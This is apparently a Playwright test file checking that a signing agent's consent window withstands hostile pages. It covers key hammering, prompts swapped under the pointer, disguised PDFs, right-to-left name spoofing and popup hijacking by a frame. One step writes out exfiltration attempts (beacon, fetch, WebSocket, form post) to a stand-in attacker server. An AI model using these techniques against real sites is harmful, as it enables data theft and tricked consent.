/** Hostile pages against the question that the agent asks, in Chromium: keys, swaps, frames, and the way out. */
import assert from "node:assert/strict";
import type { Page } from "playwright-core";
import { WindowConsent } from "../../signing/consent/window.ts";
import { build } from "../../tasks/build.ts";
import { AGENT_WORDS } from "../../words/agent.ts";
import { PIN } from "../fakes/memory_provider.ts";
import { testAgent } from "../fixtures/agent.ts";
import { LETTER_PDF, signedByStranger } from "../fixtures/deceits.ts";
import { launch, lookAtAll, openWindow, press, pressKey, sayYes } from "./browser.ts";
import { serveSite } from "./sites.ts";
import { NextWindow } from "./next_window.ts";

const WEB = new URL("../../dist/web/", import.meta.url);
const en = AGENT_WORDS.en;

type Globals = {
  dsign: import("../../web/client.ts").Client;
  asked: Promise<string>;
  cancel: AbortController;
  heard: unknown[];
};

/** Asks for a permission without waiting. */
const request = (page: Page, scope: "certificates" | "sign" | "sign_hash") =>
  page.evaluate((scope) => {
    const globals = globalThis as unknown as Globals;
    const { signal } = globals.cancel = new AbortController();
    globals.asked = globals.dsign.call("origin.request", { scopes: [scope] }, { signal })
      .then(() => "granted", (error) => error.code);
  }, scope);
const outcome = (page: Page) =>
  page.evaluate(() => (globalThis as unknown as { asked: Promise<string> }).asked);

Deno.test("a hostile page cannot answer in the person's place", async (t) => {
  await build();
  /** What came to the hostile site. */
  const reached: string[] = [];
  const evil = Deno.serve({ hostname: "127.0.0.1", port: 0, onListen() {} }, ({ url }) => {
    const { pathname } = new URL(url);
    reached.push(pathname);
    return new Response("<!DOCTYPE html><title>Weather</title>", {
      headers: { "content-type": "text/html", "access-control-allow-origin": "*" },
    });
  });
  const evilOrigin = `http://127.0.0.1:${evil.addr.port}`;
  await using site = serveSite(`<iframe src="${evilOrigin}/frame"></iframe>`);
  const next = new NextWindow<Page>();
  await using test = await testAgent({
    officers: [{ name: "Anita Das (TEST)" }],
    web: WEB,
    allowedOrigins: [],
    consent: (origin) =>
      new WindowConsent({
        origin,
        language: "en",
        openWindow: async (url) => next.opened(await openWindow(opening, url)),
      }),
  });
  const { port } = test.agent;
  const asked = () => next.wait();
  const browser = await launch();
  const context = await browser.newContext({ viewport: { width: 1050, height: 741 } });
  context.setDefaultTimeout(15_000);
  /** Where the next window opens. */
  let opening = context;
  try {
    const page = await context.newPage();
    await page.goto(site.origin);
    await page.evaluate(async (port) => {
      const sdk: typeof import("../../web/client.ts") = await import("/client.js" as string);
      const dsign = await sdk.connect({ ports: [port], securePorts: [] });
      Object.assign(globalThis, { dsign });
    }, port);

    await t.step("keys that are pressed as the window comes up answer nothing", async () => {
      await request(page, "certificates");
      const grant = await asked();
      const hammer = async () => {
        for (let i = 0; i < 12; i++) {
          await pressKey(grant, i % 2 ? "Enter" : "Space");
          await grant.waitForTimeout(50);
        }
      };
      await hammer();
      await lookAtAll(grant);
      await hammer(); // where the focus is, which is on the question's heading
      assert.equal(grant.isClosed(), false);
      await press(grant, en.do_not_grant);
      assert.equal(await outcome(page), "user_cancelled");
    });

    await t.step(
      "a question swapped for another one under the pointer is not answered",
      async () => {
        await request(page, "certificates");
        const harmless = await asked();
        await lookAtAll(harmless);
        const place = (await harmless.locator("button[type=submit]").boundingBox())!;
        await page.evaluate(() => (globalThis as unknown as Globals).cancel.abort());
        // No time passes in the next window: it has just come up, however long the clicks take here.
        opening = await browser.newContext({ viewport: page.viewportSize() });
        await opening.addInitScript(() => {
          const now = Date.now();
          Date.now = () => now;
        });
        await request(page, "sign_hash");
        const harmful = await asked();
        await harmful.getByRole("heading", { name: en.ask_grant }).waitFor();
        for (let i = 0; i < 4; i++) await harmful.mouse.click(place.x + 9, place.y + 9);
        await harmful.waitForTimeout(300);
        assert.equal(harmful.isClosed(), false);
        await press(harmful, en.do_not_grant);
        assert.equal(await outcome(page), "user_cancelled");
        await opening.close();
        opening = context;
      },
    );

    await t.step("nothing leaves the window for another site", async () => {
      await request(page, "certificates");
      const grant = await asked();
      await lookAtAll(grant);
      reached.length = 0;
      const sent = await grant.evaluate(async (evil) => {
        const quiet = (work: () => unknown) => Promise.resolve().then(work).catch(() => "refused");
        const socket = new Promise((resolve) => {
          const socket = new WebSocket(`${evil.replace("http", "ws")}/socket`);
          socket.onopen = () => resolve("open");
          socket.onerror = () => resolve("refused");
        });
        const image = new Promise((resolve) => {
          const image = new Image();
          image.onload = () => resolve("loaded");
          image.onerror = () => resolve("refused");
          image.src = `${evil}/image`;
        });
        const form = document.createElement("form");
        Object.assign(form, { action: `${evil}/form`, method: "post", target: "_blank" });
        document.body.append(form);
        form.submit();
        const frame = document.createElement("iframe");
        frame.src = `${evil}/frame`;
        document.body.append(frame);
        navigator.sendBeacon(`${evil}/beacon`, "2468");
        return [
          await quiet(() => fetch(`${evil}/fetch`, { mode: "no-cors" })),
          await quiet(() => import(`${evil}/script.js`)),
          await socket,
          await image,
        ];
      }, evilOrigin);
      assert.deepEqual(sent, Array(4).fill("refused"));
      await grant.waitForTimeout(300);
      assert.deepEqual(reached, []);
      await press(grant, en.do_not_grant);
      assert.equal(await outcome(page), "user_cancelled");
    });

    await t.step("a PDF that its site calls a text is shown as the PDF that it is", async () => {
      await request(page, "sign");
      await sayYes(await asked(), en.do_grant);
      assert.equal(await outcome(page), "granted");
      await page.evaluate((bytes) => {
        const globals = globalThis as unknown as Globals;
        const letter = new File([Uint8Array.fromBase64(bytes)], "leave.txt", {
          type: "text/plain",
        });
        globals.asked = globals.dsign.signDocument(letter).then(() => "signed", ({ code }) => code);
      }, LETTER_PDF.toBase64());
      const sign = await asked();
      await sign.locator('[data-drawn="1 1"]').waitFor();
      await sign.getByText(en.kind_pdf).first().waitFor();
      assert.equal(await sign.getByText("Casual leave").count(), 0);
      await sign.getByLabel(en.pin).fill(PIN);
      await sayYes(sign, en.do_sign_one);
      assert.equal(await outcome(page), "signed");
    });

    await t.step("of a text too long to be shown, that is said before it begins", async () => {
      await page.evaluate((text) => {
        const globals = globalThis as unknown as Globals;
        globals.asked = globals.dsign.call("sign.data", { content: { text } })
          .then(() => "signed", ({ code }) => code);
      }, "I ask for one day of casual leave.\n".repeat(10_000));
      const sign = await asked();
      await sign.locator(".notice[data-see] + .preview").waitFor();
      assert.equal(await sign.locator(".notice").innerText(), en.truncated);
      await press(sign, en.do_not_sign);
      assert.equal(await outcome(page), "user_cancelled");
    });

    await t.step("a cosigner whom nobody vouches for gets no tick", async () => {
      const content = "Approve file 7";
      await page.evaluate(({ text, cosign }) => {
        const globals = globalThis as unknown as Globals;
        globals.asked = globals.dsign.call("sign.data", { content: { text }, cosign })
          .then(() => "signed", ({ code }) => code);
      }, { text: content, cosign: signedByStranger(content, "Chief Secretary\u202e").toBase64() });
      const sign = await asked();
      const signers = sign.locator(".signers li");
      await signers.waitFor();
      const claims = en.route_claims.replace("{name}", "Chief SecretaryU+202E");
      assert.deepEqual(await signers.allInnerTexts(), [claims]);
      await sign.getByLabel(en.pin).fill(PIN);
      await sayYes(sign, en.do_sign_one);
      assert.equal(await outcome(page), "signed");
    });

    await t.step("a frame cannot take the window through which its page connects", async () => {
      await page.evaluate((port) => {
        document.addEventListener("click", async () => {
          const sdk: typeof import("../../web/client.ts") = await import("/client.js" as string);
          const connecting = sdk.connectByPopup({ ports: [port] });
          Object.assign(globalThis, {
            asked: connecting.then(() => "connected", (error) => error.code),
          });
        });
      }, port);
      const frame = page.frames().find((each) => each !== page.mainFrame())!;
      await frame.evaluate((agent) => {
        const heard: unknown[] = [];
        Object.assign(globalThis, { heard });
        addEventListener("message", ({ data, source }) => {
          heard.push(data?.dsign);
          // It asks to be connected, as the page that it stands in would.
          if (data?.dsign === "hello") (source as Window).postMessage({ dsign: "connect" }, agent);
        });
        document.onclick = () => void open(`${agent}/bridge`, "dsign-bridge", "popup");
      }, test.agent.origin);
      const first = context.waitForEvent("page");
      const { x, y } = (await page.locator("iframe").boundingBox())!;
      await page.mouse.click(x + 20, y + 20);
      const theirs = await first;
      await theirs.getByText(new URL(evilOrigin).host).waitFor();
      const second = context.waitForEvent("page");
      await page.mouse.click(600, 500);
      const ours = await second;
      await ours.getByText(new URL(site.origin).host).waitFor();
      assert.equal(await outcome(page), "connected");
      const heard = await frame.evaluate(() => (globalThis as unknown as Globals).heard);
      assert.deepEqual(heard, ["hello", "connected"], "as a site of its own, and once");
      assert.ok(await theirs.getByText(new URL(evilOrigin).host).isVisible());
    });
  } finally {
    await browser.close();
    await evil.shutdown();
  }
});
